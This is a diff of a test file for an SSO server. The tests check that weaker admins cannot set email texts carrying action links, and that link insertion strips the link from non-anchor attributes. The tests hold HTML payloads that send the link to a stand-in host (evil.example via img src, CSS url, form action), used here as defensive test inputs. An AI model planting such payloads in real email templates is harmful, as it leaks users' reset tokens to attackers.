@@ -1,4 +1,4 @@
-// Texts of emails with a link control where it leads: a caller who writes them could act as any user who gets one.
+// A caller who controls the text of an email with an action link could get the link of any user, so setting such texts requires the permissions of all users.
 import { afterAll, expect, test } from 'vitest'
 import { emailsWithLink } from '../../src/kinds/localization.ts'
 import { insertLink, LINK_PLACEHOLDER } from '../../src/oidc/mail/insert-link.ts'
@@ -9,14 +9,14 @@ import { testServer } from '../support/server.ts'
 import { newName, testService } from '../support/service.ts'
 import { applySource, createSource } from '../support/sources.ts'
 
-const { call, make, realm } = await testServer()
+const { call, create, createRealm } = await testServer()
 const { service } = await testService()
 const mailbox = await openMailbox()
 afterAll(() => mailbox.close())
 
 const IMAGE = '<p>Hello</p><img src="http://evil.example/?{0}">'
 
-test('texts of emails with a link are set, updated and deleted only by a caller who is not weaker than any user', async () => {
+test('setting, updating or deleting localization texts of emails with a link returns 403 for a caller who is weaker than a user', async () => {
   const { as, expectForbidden } = await createAdminRealm({ manager: 'manage-realm' })
   for (const name of ['passwordResetBodyHtml', 'executeActionsBody', 'emailVerificationBodyHtml']) {
     await expectForbidden('manager', 'POST', 'localization/en', { [name]: IMAGE })
@@ -36,42 +36,44 @@ test('texts of emails with a link are set, updated and deleted only by a caller 
 
 test('PUT of a single text of an email with a link returns 403 for a weaker caller', async () => {
   const { path, token } = await createAdminRealm({ manager: 'manage-realm' })
-  const put = async (caller: string) =>
+  const putText = async (caller: string) =>
     call('PUT', `${path}/localization/en/passwordResetBodyHtml`, {
       token: await token(caller),
       headers: { 'content-type': 'text/plain' },
       body: IMAGE,
     })
-  expect((await put('manager')).status).toBe(403)
-  expect((await put('admin')).status).toBe(204)
+  expect((await putText('manager')).status).toBe(403)
+  expect((await putText('admin')).status).toBe(204)
 })
 
-test('a limited source cannot declare a text of an email with a link in a realm with a stronger user', async () => {
+test('an apply with source permissions refuses the text of an email with a link in a realm with a stronger user', async () => {
   const name = newName()
-  const declared = (content: object) => ({
+  const createLimitedSource = (content: object) => ({
     ...createSource([{ realm: name, ...content }], name),
     sourcePermissions: { roles: [] },
   })
   const admin = { username: 'admin', clientRoles: { 'realm-management': ['realm-admin'] } }
   await applySource(service, createSource([{ realm: name, users: [admin] }], `${name}-owner`))
-  await applySource(service, declared({ localizationTexts: { en: { hello: 'Hello' } } }))
-  const stolen = declared({ localizationTexts: { en: { hello: 'Hello', executeActionsBodyHtml: IMAGE } } })
-  await expect(applySource(service, stolen)).rejects.toMatchObject({
+  await applySource(service, createLimitedSource({ localizationTexts: { en: { hello: 'Hello' } } }))
+  const withLinkText = createLimitedSource({
+    localizationTexts: { en: { hello: 'Hello', executeActionsBodyHtml: IMAGE } },
+  })
+  await expect(applySource(service, withLinkText)).rejects.toMatchObject({
     problems: [{ message: expect.stringContaining(`you lack realm-admin of ${name}`) }],
   })
 })
 
-test('the list of emails with a link is complete', () => {
-  const linked = Object.entries(emailTemplates).flatMap(([name, values]) =>
+test('emailsWithLink contains every template with a link', () => {
+  const templates = Object.entries(emailTemplates).flatMap(([name, values]) =>
     (values as readonly string[]).includes('link') ? [name] : [],
   )
-  expect(linked.sort()).toEqual([...emailsWithLink].sort())
+  expect(templates.sort()).toEqual([...emailsWithLink].sort())
 })
 
-test('an email contains its link only in the URL of an anchor and in text', async () => {
+test('an email has its link in the URL of an anchor and in text, but not in other attributes', async () => {
   const smtpServer = { host: '127.0.0.1', port: mailbox.port, from: 'sso@example.org' }
-  const path = await realm({ smtpServer })
-  const user = await make(`${path}/users`, { username: 'ann', enabled: true, email: 'ann-link@example.org' })
+  const path = await createRealm({ smtpServer })
+  const user = await create(`${path}/users`, { username: 'ann', enabled: true, email: 'ann-link@example.org' })
   const executeActionsBodyHtml = `${IMAGE}<p><a class="button" href="{0}">{0}</a></p>`
   await call('POST', `${path}/localization/en`, { body: { executeActionsBodyHtml } })
   expect((await call('PUT', `${user}/execute-actions-email`, { body: ['UPDATE_PASSWORD'] })).status).toBe(204)
@@ -80,10 +82,10 @@ test('an email contains its link only in the URL of an anchor and in text', asyn
   expect(html).toMatch(/<a class="button" href="http:[^"]+key=[^"]+">http:.+key=/)
 })
 
-const [LINK, SHOWN] = ['https://sso.example/?a=1&key="k"', 'https://sso.example/?a=1&#38;key=&#34;k&#34;']
+const [LINK, ESCAPED_LINK] = ['https://sso.example/?a=1&key="k"', 'https://sso.example/?a=1&#38;key=&#34;k&#34;']
 test.each([
-  ['<a href="{0}">here</a>', `<a href="${SHOWN}">here</a>`],
-  ["<A title='t' HREF='{0}'>{0}</A>", `<A title='t' href="${SHOWN}">${SHOWN}</A>`],
+  ['<a href="{0}">here</a>', `<a href="${ESCAPED_LINK}">here</a>`],
+  ["<A title='t' HREF='{0}'>{0}</A>", `<A title='t' href="${ESCAPED_LINK}">${ESCAPED_LINK}</A>`],
   ['<img src="//evil/?{0}">', '<img src="//evil/?">'],
   ["<img src='//evil/?>{0}'>", "<img src='//evil/?>'>"],
   ['<img src=//evil/?{0}>', '<img src=//evil/?>'],
@@ -94,7 +96,7 @@ test.each([
   [`<style>p{background:url('//evil/?{0}')}</style>`, `<style>p{background:url('//evil/?')}</style>`],
   ['<form action=//evil><textarea name=x>{0}</textarea>', '<form action=//evil><textarea name=x></textarea>'],
   ['<link rel="stylesheet" href="{0}">', '<link rel="stylesheet" href="">'],
-  ['{0}', SHOWN],
-])('%s becomes %s', (pattern, expected) => {
+  ['{0}', ESCAPED_LINK],
+])('insertLink converts %s to %s', (pattern, expected) => {
   expect(insertLink(pattern.replaceAll('{0}', LINK_PLACEHOLDER), LINK)).toBe(expected)
 })
